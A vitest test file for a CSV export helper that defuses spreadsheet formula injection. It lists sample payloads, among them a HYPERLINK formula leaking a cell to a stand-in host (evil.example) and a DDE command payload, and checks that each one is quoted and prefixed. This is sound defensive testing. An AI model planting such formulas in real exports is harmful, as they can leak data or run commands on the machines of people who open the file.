import { describe, expect, it } from 'vitest';
import { csvCell, csvCellValue, csvRecord, neutraliseCsvText } from './csv.ts';

/** The payloads of the issue and OWASP's CSV injection page. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
  '+91 98765 43210',
  '-2+3',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
  '\uFF1D1+2',
];

describe('CSV cells', () => {
  it('turns text that would start a formula into text', () => {
    for (const p of PAYLOADS) expect(neutraliseCsvText(p), JSON.stringify(p)).toBe(`'${p}`);
    for (const p of ['Ganga Traders', '9876543210', "O'Brien", 'a=b', ' =1', '']) {
      expect(neutraliseCsvText(p), p).toBe(p);
    }
  });

  it('quotes every text cell, neutralised ones included, and escapes quotes', () => {
    expect(csvCell('=HYPERLINK("http://x", "y")')).toBe('"\'=HYPERLINK(""http://x"", ""y"")"');
    expect(csvCell("=cmd|' /C calc'!A0")).toBe("\"'=cmd|' /C calc'!A0\"");
    expect(csvCell('a;=1+2')).toBe('"a;=1+2"');
    expect(csvCell('Plain')).toBe('"Plain"');
    expect(csvCell(null)).toBe('""');
    // A decimal typed by a person is harmless as a number; one that is a formula is not a decimal.
    expect(csvCell('12')).toBe('12');
  });

  it('keeps numbers the product writes as numbers, negative ones included, and neutralises text that looks like one', () => {
    expect(csvCell(-250)).toBe('-250');
    expect(csvCell(12)).toBe('12');
    expect(csvCell('-1234.50', { numeric: true })).toBe('-1234.50');
    expect(csvCell('1234.50', { numeric: true })).toBe('1234.50');
    expect(csvCell('-2+3', { numeric: true })).toBe('"\'-2+3"');
    expect(csvCell('-5')).toBe('"\'-5"');
    expect(csvCellValue('-5')).toBe("'-5");
  });

  it('writes a record', () => {
    expect(csvRecord([3, 'sku', '@SUM(A1)', '-2+3'])).toBe('3,"sku","\'@SUM(A1)","\'-2+3"');
  });
});
